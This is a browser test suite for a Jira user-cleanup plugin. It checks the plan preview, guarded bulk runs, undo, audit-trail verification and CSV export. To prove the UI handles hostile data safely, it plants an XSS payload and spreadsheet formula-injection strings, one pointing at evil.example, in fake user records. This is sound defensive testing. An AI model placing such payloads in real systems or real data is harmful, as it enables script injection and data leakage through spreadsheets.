@@ -1,0 +1,449 @@
+// The Preview, Run and History views in a real browser (Debian's Chromium through playwright-core)
+// against the sandbox Jira serving the app the way the JAR does: the preview equals the engine's
+// plan; a run changes exactly the planned users; confirmation, over-limit refusal, Stop; the trail
+// downloaded from the page passes `user-cleanup audit verify`; undo from History restores; hostile
+// data is inert on screen and neutralised in the CSV export; 100k rows stay responsive.
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { readFileSync, mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { spawnSync } from 'node:child_process';
+import { fileURLToPath } from 'node:url';
+import { startAppSandbox } from './app-server.mjs';
+import { launch, login, settled, parseNum, cannotRun } from './helpers.mjs';
+
+const skip = cannotRun();
+const ROOT = new URL('../../', import.meta.url);
+const ROOT_PATH = fileURLToPath(ROOT);
+const SHOTS = fileURLToPath(new URL('screenshots/', import.meta.url));
+const POLICY = readFileSync(new URL('samples/policy.json', ROOT), 'utf8');
+const TMP = mkdtempSync(join(tmpdir(), 'uc-browser-run-'));
+
+const XSS_NAME = '<img src=x onerror="window.__pwned=1">';
+const FORMULA_NAME = '=HYPERLINK("http://evil.example/","Click me")';
+const FORMULA_EMAIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")@evil-<b>bold</b>.example';
+
+function hostileSnapshot() {
+  const snap = JSON.parse(readFileSync(new URL('samples/snapshot.json', ROOT), 'utf8'));
+  for (let i = 0; i < 3; i++) {
+    snap.users.push({
+      name: `mallory${i}`, displayName: i === 0 ? FORMULA_NAME : `${XSS_NAME} ${i}`, email: FORMULA_EMAIL, active: true,
+      groups: ['jira-software-users', 'contractors'], directory: 'Jira Internal Directory',
+      created: '2020-01-01T00:00:00Z', lastLogin: '2025-01-01T00:00:00Z',
+    });
+  }
+  return snap;
+}
+
+let browser;
+let sb;
+before(async () => {
+  if (skip) return;
+  mkdirSync(SHOTS, { recursive: true });
+  browser = await launch();
+  // LDAP read-only "with local groups": the read-only fallback (licence groups) can succeed.
+  sb = await startAppSandbox({ snapshot: hostileSnapshot(), localGroups: ['jira-*-users'] });
+});
+after(async () => {
+  await browser?.close();
+  await sb?.close();
+});
+
+async function adminPage(viewport = { width: 1280, height: 900 }) {
+  const context = await browser.newContext({ viewport, acceptDownloads: true });
+  await login(context, sb.url, 'admin');
+  const page = await context.newPage();
+  const errors = [];
+  page.on('pageerror', (e) => errors.push(e.message));
+  page.on('dialog', (d) => {
+    errors.push(`dialog: ${d.message()}`);
+    d.dismiss();
+  });
+  return { context, page, errors };
+}
+
+async function openView(page, view, query = '') {
+  await page.goto(`${sb.appUrl}${query}#user-cleanup/${view}`);
+  assert.equal(await settled(page), 'ready');
+}
+
+/** The engine's plan over the sandbox as it is now, computed in Node through the host adapter. */
+async function expectedPlan(policy = POLICY) {
+  const engine = await import(new URL('plugin-shim/src/engine.mjs', ROOT).href);
+  const { createJiraHost } = await import(new URL('plugin-shim/src/host/index.mjs', ROOT).href);
+  const snap = await createJiraHost({ baseUrl: sb.url, token: sb.token }).snapshot();
+  const plan = JSON.parse(engine.planJson(policy, JSON.stringify(snap), JSON.stringify({ asOf: snap.capturedAt, actor: 'admin' })));
+  assert.equal(plan.type, 'success');
+  return plan.value;
+}
+
+const lc = (s) => String(s).toLowerCase();
+const truth = () => new Map(sb.state.snapshotTruth().users.map((u) => [lc(u.name), { active: u.active, groups: u.groups.map(lc).sort() }]));
+function diff(before, after) {
+  const changed = new Map();
+  for (const [k, b] of before) {
+    const a = after.get(k);
+    const removed = b.groups.filter((g) => !a.groups.includes(g));
+    const added = a.groups.filter((g) => !b.groups.includes(g));
+    if (a.active !== b.active || removed.length || added.length) changed.set(k, { deactivated: b.active && !a.active, reactivated: !b.active && a.active, removed, added });
+  }
+  return changed;
+}
+const records = (text) => text.split('\n').filter(Boolean).map((l) => JSON.parse(l));
+const verify = (path) => spawnSync(process.execPath, [join(ROOT_PATH, 'plugin-shim/bin/user-cleanup.mjs'), 'audit', 'verify', path], { encoding: 'utf8' });
+
+async function downloaded(page, click) {
+  const [dl] = await Promise.all([page.waitForEvent('download'), click()]);
+  const path = join(TMP, dl.suggestedFilename());
+  await dl.saveAs(path);
+  return { path, text: readFileSync(path, 'utf8'), name: dl.suggestedFilename() };
+}
+
+test('preview: the sample policy\u2019s plan as the engine makes it; filter, search, sort, keyboard; hostile data inert; CSV neutralised', { skip: skip || false }, async () => {
+  const plan = await expectedPlan();
+  const { page, errors } = await adminPage();
+  await openView(page, 'preview');
+  const count = async (k) => parseNum(await page.textContent(`#uc-preview-summary [data-count="${k}"]`));
+  assert.equal(await count('actions'), plan.counts.actions);
+  for (const k of ['deactivate', 'removeFromGroups', 'review']) assert.equal(await count(k), plan.counts.byAction[k] ?? 0, k);
+  assert.equal(await count('protected'), plan.counts.protected);
+  assert.equal(await page.textContent('#uc-preview-shown'), `${plan.counts.actions.toLocaleString('en-GB')} actions`);
+  // Virtualised: far fewer rows in the DOM than actions.
+  const domRows = await page.locator('#uc-actions-grid .uc-vgrid-row:not([hidden])').count();
+  assert.ok(domRows > 5 && domRows < 40, `rows in DOM: ${domRows}`);
+  await page.screenshot({ path: `${SHOTS}preview.png`, fullPage: true });
+
+  // First rows: the engine's order and reasons.
+  const rowText = (pos) => page.$eval(`#uc-actions-grid .uc-vgrid-row[data-pos="${pos}"]`, (r) => Object.fromEntries([...r.children].map((c) => [c.dataset.key, c.textContent])));
+  for (const pos of [0, 1, 2]) {
+    const r = await rowText(pos);
+    assert.equal(r.user, plan.actions[pos].user);
+    assert.equal(r.rule, plan.actions[pos].rule);
+    assert.equal(r.reasons, plan.actions[pos].reasons.join('; '));
+  }
+  // Keyboard: focus the grid, ArrowDown twice → the detail pane shows the third action's reasons.
+  await page.focus('#uc-actions-grid .uc-vgrid-scroll');
+  await page.keyboard.press('ArrowDown');
+  await page.keyboard.press('ArrowDown');
+  const third = plan.actions[2];
+  assert.equal(await page.textContent('#uc-action-detail .uc-message-title'), third.user);
+  assert.deepEqual(await page.$$eval('#uc-action-detail .uc-reasons li', (l) => l.map((x) => x.textContent)), third.reasons);
+  await page.keyboard.press('End');
+  assert.equal(await page.textContent('#uc-action-detail .uc-message-title'), plan.actions.at(-1).user);
+
+  // Filter by rule and action.
+  const rule = Object.keys(plan.counts.byRule)[0];
+  await page.selectOption('#uc-filter-rule', rule);
+  assert.equal(await page.textContent('#uc-preview-shown'), `${plan.counts.byRule[rule]} of ${plan.counts.actions.toLocaleString('en-GB')} actions`);
+  await page.selectOption('#uc-filter-rule', '');
+  await page.selectOption('#uc-filter-action', 'removeFromGroups');
+  assert.equal(parseNum((await page.textContent('#uc-preview-shown')).split(' of ')[0]), plan.counts.byAction.removeFromGroups);
+  const acts = await page.$$eval('#uc-actions-grid .uc-vgrid-row:not([hidden]) [data-key="action"]', (c) => c.map((x) => x.textContent));
+  assert.ok(acts.every((a) => a.startsWith('Remove from groups')), acts.join('|'));
+  await page.selectOption('#uc-filter-action', '');
+  // Search by user, by name, by email.
+  const search = async (q) => {
+    await page.fill('#uc-filter-search', q);
+    await page.waitForTimeout(150);
+    return page.$$eval('#uc-actions-grid .uc-vgrid-row:not([hidden])', (r) => r.map((x) => x.dataset.user));
+  };
+  assert.deepEqual(await search(third.user), plan.actions.filter((a) => lc(a.user).includes(lc(third.user)) || lc(a.displayName ?? '').includes(lc(third.user)) || lc(a.email ?? '').includes(lc(third.user))).map((a) => a.user));
+  assert.deepEqual((await search('evil-<b>bold')).sort(), ['mallory0', 'mallory1', 'mallory2']);
+  // Hostile strings are text.
+  const names = await page.$$eval('#uc-actions-grid .uc-vgrid-row:not([hidden]) [data-key="displayName"]', (c) => c.map((x) => x.textContent));
+  assert.ok(names.includes(`${XSS_NAME} 1`) && names.includes(FORMULA_NAME), names.join('|'));
+  assert.equal(await page.locator('#user-cleanup img, #user-cleanup b').count(), 0);
+  await page.screenshot({ path: `${SHOTS}preview-hostile.png` });
+  // CSV export of the filtered rows: formulas neutralised, quoting right.
+  const csv = await downloaded(page, () => page.click('#uc-export-csv'));
+  const lines = csv.text.split('\r\n');
+  assert.equal(lines[0], 'user,display_name,email,rule,action,groups,reasons,last_login,days_inactive,created,matched_groups,email_domain,directory');
+  const m0 = lines.find((l) => l.startsWith('mallory0,'));
+  assert.ok(m0.includes(`"'=HYPERLINK(""http://evil.example/"",""Click me"")"`), m0);
+  assert.ok(m0.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")@evil-<b>bold</b>.example"`), m0);
+  assert.ok(!lines.slice(1).some((l) => /(^|,)[=+@-]/.test(l)), 'no cell starts with a formula character');
+  await page.fill('#uc-filter-search', '');
+  await page.waitForTimeout(150);
+  // Sort by days inactive (descending first), then ascending.
+  await page.click('#uc-actions-grid [role="columnheader"][data-key="daysInactive"] button');
+  assert.equal(await page.getAttribute('#uc-actions-grid [role="columnheader"][data-key="daysInactive"]', 'aria-sort'), 'descending');
+  const maxDays = Math.max(...plan.actions.map((a) => a.facts.daysInactive ?? -1));
+  assert.equal(parseNum((await rowText(0)).daysInactive), maxDays);
+  await page.click('#uc-actions-grid [role="columnheader"][data-key="user"] button');
+  assert.equal((await rowText(0)).user, [...plan.actions].sort((a, b) => (lc(a.user) < lc(b.user) ? -1 : 1))[0].user);
+  // JSON export: the engine's plan.
+  const json = await downloaded(page, () => page.click('#uc-export-json'));
+  assert.deepEqual(JSON.parse(json.text).counts, plan.counts);
+  // Protected users and licence impact.
+  assert.ok(await page.locator('#uc-protected-table tbody tr').count() > 0);
+  for (const l of plan.licence) {
+    const freed = await page.$eval(`#uc-licence-table`, (t, name) => [...t.tBodies[0].rows].find((r) => r.cells[0].textContent === name)?.querySelector('[data-key="seatsFreed"]').textContent, l.name);
+    assert.equal(parseNum(freed), l.seatsFreed, l.role);
+  }
+  assert.equal(await page.evaluate(() => globalThis.__pwned), undefined);
+  assert.deepEqual(errors, []);
+});
+
+test('run: over the limit is refused with no run button', { skip: skip || false }, async () => {
+  const { page, errors } = await adminPage();
+  const over = JSON.parse(POLICY);
+  over.limits.maxActionsPerRun = 10;
+  await page.route('**/samples/policy.json', (r) => r.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify(over) }));
+  await openView(page, 'run');
+  assert.match(await page.textContent('#uc-run-refused'), /over the policy\u2019s limit/);
+  assert.match(await page.textContent('#uc-run-refused'), /at most 10 per run/);
+  assert.equal(await page.locator('#uc-run-start').count(), 0);
+  await page.screenshot({ path: `${SHOTS}run-refused.png`, fullPage: true });
+  assert.deepEqual(errors, []);
+});
+
+test('run: Stop finishes the requests in flight, starts nothing new, the trail records it; undo of the stopped run restores', { skip: skip || false }, async () => {
+  const before = truth();
+  const plan = await expectedPlan();
+  const n = plan.counts.executable;
+  const { page, errors } = await adminPage();
+  // Slow writes so that Stop lands mid-run.
+  await page.route('**/rest/api/2/{user,group/user}**', async (r) => {
+    if (r.request().method() !== 'GET') await new Promise((res) => setTimeout(res, 60));
+    await r.continue();
+  });
+  await openView(page, 'run');
+  await page.fill('#uc-run-confirm-input', String(n));
+  await page.click('#uc-run-start');
+  await page.waitForFunction(() => document.querySelectorAll('#uc-run-results tbody tr').length >= 12);
+  await page.click('#uc-run-stop');
+  const trail = await downloaded(page, () => page.waitForSelector('#uc-run-finished', { timeout: 60_000 }));
+  assert.equal(await page.getAttribute('#uc-run-finished', 'data-stopped'), 'true');
+  const recs = records(trail.text);
+  const runId = recs[0].runId;
+  const outcomes = recs.filter((r) => r.type === 'outcome');
+  const intents = recs.filter((r) => r.type === 'intent');
+  assert.ok(outcomes.length >= 12 && outcomes.length < n, `stopped after ${outcomes.length} of ${n}`);
+  // Every intent has its outcome (in-flight requests finished), nothing started after the stop.
+  for (const i of intents) assert.ok(outcomes.some((o) => o.item === i.item), `intent ${i.item} has an outcome`);
+  const stopAt = recs.findIndex((r) => r.type === 'runStopped');
+  assert.ok(stopAt > 0 && recs.slice(stopAt + 1).every((r) => r.type === 'runFinished'));
+  const fin = recs.at(-1);
+  assert.equal(fin.type, 'runFinished');
+  assert.equal(fin.stopped, true);
+  assert.equal(fin.totals.notStarted + outcomes.length, n);
+  assert.equal(await page.locator('#uc-run-results tbody tr').count(), outcomes.length);
+  // Exactly the users with a done outcome changed, as their effects say.
+  const changed = diff(before, truth());
+  const done = outcomes.filter((o) => o.status === 'done');
+  assert.deepEqual([...changed.keys()].sort(), done.map((o) => lc(o.user)).sort());
+  const v = verify(trail.path);
+  assert.equal(v.status, 0, v.stdout + v.stderr);
+  await page.screenshot({ path: `${SHOTS}run-stopped.png`, fullPage: true });
+
+  // History (same page session): the stopped run, verified; undo it → the sandbox is as before.
+  await page.click('#uc-tab-history');
+  await page.waitForSelector(`.uc-run-card[data-run-id="${runId}"]`);
+  assert.equal(await page.getAttribute('#uc-history-status [data-chain]', 'data-chain'), 'ok');
+  assert.equal(await page.getAttribute(`.uc-run-card[data-run-id="${runId}"]`, 'data-state'), 'stopped');
+  await page.click(`.uc-run-card[data-run-id="${runId}"] [data-undo="run"]`);
+  await page.click(`.uc-run-card[data-run-id="${runId}"] [data-undo-confirm="run"]`);
+  await page.waitForSelector('#uc-undo-finished');
+  assert.deepEqual(diff(before, truth()), new Map());
+  assert.deepEqual(errors, []);
+});
+
+test('run: typed confirmation; exactly the planned users change; trail passes audit verify; History undo per user and per run restores', { skip: skip || false }, async () => {
+  const before = truth();
+  const plan = await expectedPlan();
+  const executable = plan.actions.filter((a) => a.action !== 'review');
+  const n = executable.length;
+  assert.equal(n, plan.counts.executable);
+  const { page, errors } = await adminPage();
+  await openView(page, 'run');
+  assert.equal(parseNum(await page.textContent('#uc-run-executable')), n);
+  await page.screenshot({ path: `${SHOTS}run-confirm.png`, fullPage: true });
+  // Wrong numbers keep the button disabled.
+  for (const wrong of ['', String(n - 1), String(n + 1), 'all', `${n}0`]) {
+    await page.fill('#uc-run-confirm-input', wrong);
+    assert.equal(await page.isDisabled('#uc-run-start'), true, `"${wrong}" must not enable the run`);
+  }
+  await page.fill('#uc-run-confirm-input', String(n));
+  assert.equal(await page.isDisabled('#uc-run-start'), false);
+  const t0 = Date.now();
+  const trail = await downloaded(page, async () => {
+    await page.click('#uc-run-start');
+    await page.waitForSelector('#uc-run-finished', { timeout: 120_000 });
+  });
+  console.log(`# run from the page: ${n} actions in ${Date.now() - t0} ms`);
+  await page.screenshot({ path: `${SHOTS}run-finished.png`, fullPage: true });
+  const recs = records(trail.text);
+  const runId = recs.find((r) => r.type === 'runStarted').runId;
+  const started = recs.find((r) => r.type === 'runStarted');
+  assert.equal(started.who.actor, 'admin');
+  assert.match(started.policy.hash, /^[0-9a-f]{64}$/);
+  const planned = recs.find((r) => r.type === 'planned');
+  assert.deepEqual(planned.items.map((i) => i.user), plan.actions.map((a) => a.user));
+  const outcomes = new Map(recs.filter((r) => r.type === 'outcome').map((o) => [lc(o.user), o]));
+  // Every executable planned user has an outcome; nobody else.
+  assert.deepEqual([...outcomes.keys()].sort(), executable.map((a) => lc(a.user)).sort());
+  const failed = [...outcomes.values()].filter((o) => o.status === 'failed');
+  console.log(`# outcomes: ${[...outcomes.values()].filter((o) => o.status === 'done').length} done, ${failed.length} failed, ${[...outcomes.values()].filter((o) => o.status === 'skipped').length} skipped; fallbacks ${[...outcomes.values()].filter((o) => o.fallback).length}`);
+  // The sandbox changed for exactly the users with a done outcome, and exactly as recorded.
+  const changed = diff(before, truth());
+  assert.deepEqual([...changed.keys()].sort(), [...outcomes.values()].filter((o) => o.status === 'done').map((o) => lc(o.user)).sort());
+  for (const [user, c] of changed) {
+    const o = outcomes.get(user);
+    const a = executable.find((x) => lc(x.user) === user);
+    assert.equal(c.deactivated, Boolean(o.effects.deactivated), user);
+    assert.deepEqual(c.removed, (o.effects.groupsRemoved ?? []).map(lc).sort(), user);
+    assert.deepEqual(c.added, []);
+    if (a.action === 'removeFromGroups') assert.deepEqual(c.removed, a.groups.map(lc).sort(), user);
+    if (a.action === 'deactivate' && !o.fallback) assert.equal(c.deactivated, true, user);
+  }
+  // Per-user results on screen match.
+  assert.equal(await page.locator('#uc-run-results tbody tr').count(), n);
+  const v = verify(trail.path);
+  assert.equal(v.status, 0, v.stdout + v.stderr);
+  assert.match(v.stdout + v.stderr, /intact|ok|verified/i);
+
+  // History: undo one user, then the rest of the run.
+  await page.click('#uc-tab-history');
+  await page.waitForSelector(`.uc-run-card[data-run-id="${runId}"]`);
+  const one = [...changed.keys()][0];
+  const oneName = outcomes.get(one).user;
+  await page.click(`.uc-run-card[data-run-id="${runId}"] summary`);
+  await page.click(`.uc-run-card[data-run-id="${runId}"] [data-undo-user="${oneName}"]`);
+  await page.waitForSelector('#uc-undo-finished');
+  const afterOne = diff(before, truth());
+  assert.equal(afterOne.has(one), false, 'the one user is restored');
+  assert.equal(afterOne.size, changed.size - 1);
+  await page.click(`.uc-run-card[data-run-id="${runId}"] [data-undo="run"]`);
+  await page.click(`.uc-run-card[data-run-id="${runId}"] [data-undo-confirm="run"]`);
+  await page.waitForFunction(() => document.querySelectorAll('#uc-history-runs .uc-run-card[data-run-id^="undo-"]').length === 2);
+  assert.deepEqual(diff(before, truth()), new Map(), 'everything restored');
+  assert.equal(await page.getAttribute('#uc-history-status [data-chain]', 'data-chain'), 'ok');
+  await page.screenshot({ path: `${SHOTS}history.png`, fullPage: true });
+  // The whole trail (run + two undos), downloaded from History, verifies with the CLI too.
+  const all = await downloaded(page, () => page.click('#uc-history-download'));
+  assert.equal(verify(all.path).status, 0);
+  assert.deepEqual(records(all.text).filter((r) => r.type === 'undoStarted').map((r) => r.undoOf), [runId, runId]);
+  // Importing it in a fresh page shows the same runs, and a tampered copy is flagged.
+  const p2 = (await adminPage()).page;
+  await openView(p2, 'history');
+  assert.ok(await p2.locator('#uc-history-empty').count());
+  await p2.setInputFiles('#uc-history-import', all.path);
+  await p2.waitForSelector(`.uc-run-card[data-run-id="${runId}"]`);
+  assert.equal(await p2.getAttribute('#uc-history-status [data-chain]', 'data-chain'), 'ok');
+  const tampered = join(TMP, 'tampered.jsonl');
+  writeFileSync(tampered, all.text.replace('"status":"done"', '"status":"failed"'));
+  await p2.setInputFiles('#uc-history-import', tampered);
+  await p2.waitForSelector('#uc-history-status [data-chain="broken"]');
+  assert.equal(await p2.locator('[data-undo="run"]:not([disabled])').count(), 0);
+  assert.deepEqual(errors, []);
+});
+
+test('preview: 100k planned actions stay responsive (virtualised grid)', { skip: skip || false }, async () => {
+  const { page, errors } = await adminPage();
+  await page.goto(`${sb.url}/download/resources/com.usercleanup.jira:assets/app/index.html?policy=none#user-cleanup/history`);
+  await settled(page);
+  const m = await page.evaluate(async (N) => {
+    const base = new URL('./', location.href);
+    const { renderPreview } = await import(new URL('preview.mjs', base).href);
+    const rules = ['contractors-idle-60d', 'partners-idle-30d', 'internal-never-used', 'staff-review'];
+    const kinds = ['deactivate', 'removeFromGroups', 'deactivate', 'review'];
+    const actions = Array.from({ length: N }, (_, i) => ({
+      user: `user${String(i).padStart(6, '0')}`, displayName: `User ${i}`, email: `user${i}@ext${i % 97}.example`,
+      rule: rules[i % 4], action: kinds[i % 4], ...(kinds[i % 4] === 'removeFromGroups' ? { groups: ['jira-software-users'] } : {}),
+      reasons: [`member of group-${i % 50}`, `last login 2026-0${1 + (i % 9)}-01, ${30 + (i % 900)} days ago (threshold 30 days)`],
+      facts: { lastLogin: `2026-0${1 + (i % 9)}-01T00:00:00Z`, daysInactive: 30 + (i % 900), created: null, matchedGroups: [`group-${i % 50}`], emailDomain: `ext${i % 97}.example`, directory: null },
+    }));
+    const plan = { asOf: '2026-11-27T00:00:00Z', actions, protected: [], licence: [], overLimit: false, limit: { maxActionsPerRun: null },
+      counts: { users: N, activeUsers: N, actions: N, executable: N * 0.75, byAction: { deactivate: N / 2, removeFromGroups: N / 4, review: N / 4 }, byRule: {}, protected: 0 } };
+    const panel = document.getElementById('uc-panel');
+    panel.replaceChildren();
+    const ctx = {
+      data: { snapshot: async () => ({ snap: { users: [] } }), plan: async () => ({ result: { type: 'success', value: plan, warnings: [] }, ms: 0 }), savedPolicy: async () => ({ text: '{}' }) },
+      state: () => {}, timings: {}, runnerBase: new URL('../runner/', base), me: null,
+    };
+    const t0 = performance.now();
+    await renderPreview(panel, ctx);
+    await new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)));
+    const firstPaint = performance.now() - t0;
+    const sc = panel.querySelector('.uc-vgrid-scroll');
+    // Scroll 5,000 rows in 50 steps, one frame each.
+    const frames = [];
+    for (let k = 1; k <= 50; k++) {
+      const f0 = performance.now();
+      sc.scrollTop = k * 100 * 32;
+      await new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)));
+      frames.push(performance.now() - f0);
+    }
+    const firstUser = sc.querySelector('.uc-vgrid-row[data-pos="5000"]')?.dataset.user;
+    const s0 = performance.now();
+    panel.querySelector('[data-key="daysInactive"] button').click();
+    const sortMs = performance.now() - s0;
+    const q = panel.querySelector('#uc-filter-search');
+    const f0 = performance.now();
+    q.value = 'user09999';
+    q.dispatchEvent(new Event('input'));
+    await new Promise((r) => setTimeout(r, 200));
+    const searchMs = performance.now() - f0 - 150; // minus the debounce
+    return {
+      firstPaint: Math.round(firstPaint), scrollFrameAvg: +(frames.reduce((a, b) => a + b, 0) / frames.length).toFixed(1), scrollFrameMax: Math.round(Math.max(...frames)),
+      rowsInDom: sc.querySelectorAll('.uc-vgrid-row').length, firstUser, sortMs: Math.round(sortMs), searchMs: Math.round(searchMs),
+      shown: panel.querySelector('#uc-preview-shown').textContent,
+    };
+  }, 100_000);
+  console.log(`# preview, 100k actions: first paint ${m.firstPaint} ms; scrolling 5,000 rows in 50 steps: ${m.scrollFrameAvg} ms/frame avg (two rAFs), max ${m.scrollFrameMax} ms; ${m.rowsInDom} rows in the DOM; sort ${m.sortMs} ms; search ${m.searchMs} ms`);
+  assert.equal(m.firstUser, 'user005000');
+  assert.ok(m.rowsInDom < 60, `${m.rowsInDom} rows in the DOM`);
+  assert.ok(m.firstPaint < 3000, `first paint ${m.firstPaint} ms`);
+  assert.ok(m.scrollFrameMax < 200, `slowest scroll frame ${m.scrollFrameMax} ms`);
+  assert.match(m.shown, /^10 of 100,000 actions$/);
+  await page.screenshot({ path: `${SHOTS}preview-100k.png` });
+  assert.deepEqual(errors, []);
+});
+
+test('with the storage account in Jira (store.mjs), the trail is saved in Jira: it verifies, History reads it back and undo appends to it', { skip: skip || false }, async () => {
+  const { createStore } = await import(new URL('plugin-shim/app/store.mjs', ROOT).href);
+  const store = createStore({ baseUrl: sb.url, token: sb.token });
+  if (!(await store.accountStatus()).exists) await store.createAccount();
+  const before = truth();
+  const small = JSON.parse(POLICY);
+  small.rules = small.rules.filter((r) => r.id === 'external-idle-90d');
+  const policyText = JSON.stringify(small);
+  const plan = await expectedPlan(policyText);
+  const n = plan.counts.executable;
+  assert.ok(n > 0);
+  const { page, errors } = await adminPage();
+  await page.route('**/samples/policy.json', (r) => r.fulfill({ status: 200, contentType: 'application/json', body: policyText }));
+  let downloads = 0;
+  page.on('download', () => downloads++);
+  await openView(page, 'run');
+  assert.match(await page.textContent('#uc-run-confirm'), /saved in Jira/);
+  await page.fill('#uc-run-confirm-input', String(n));
+  await page.click('#uc-run-start');
+  await page.waitForSelector('#uc-run-finished', { timeout: 60_000 });
+  assert.match(await page.textContent('#uc-run-trail'), /The audit trail is saved in Jira\./);
+  assert.equal(downloads, 0, 'nothing downloaded when Jira keeps the trail');
+  const runId = await page.getAttribute('#uc-run-finished', 'data-run-id');
+  const stored = await store.loadAudit();
+  const file = join(TMP, 'from-jira.jsonl');
+  writeFileSync(file, stored.text);
+  const v = verify(file);
+  assert.equal(v.status, 0, v.stdout + v.stderr);
+  assert.ok(stored.records.some((r) => r.runId === runId && r.type === 'runFinished'));
+  assert.notDeepEqual(diff(before, truth()), new Map());
+  // A new page: History reads the trail from Jira, undo appends to it there.
+  const p2 = (await adminPage()).page;
+  await p2.route('**/samples/policy.json', (r) => r.fulfill({ status: 200, contentType: 'application/json', body: policyText }));
+  await openView(p2, 'history');
+  assert.match(await p2.textContent('#uc-history-status'), /stored in Jira/);
+  await p2.click(`.uc-run-card[data-run-id="${runId}"] [data-undo="run"]`);
+  await p2.click(`.uc-run-card[data-run-id="${runId}"] [data-undo-confirm="run"]`);
+  await p2.waitForSelector('#uc-undo-finished');
+  assert.deepEqual(diff(before, truth()), new Map());
+  const again = await store.loadAudit();
+  writeFileSync(file, again.text);
+  assert.equal(verify(file).status, 0);
+  assert.ok(again.records.some((r) => r.type === 'undoFinished'));
+  await p2.screenshot({ path: `${SHOTS}history-jira.png`, fullPage: true });
+  assert.deepEqual(errors, []);
+});
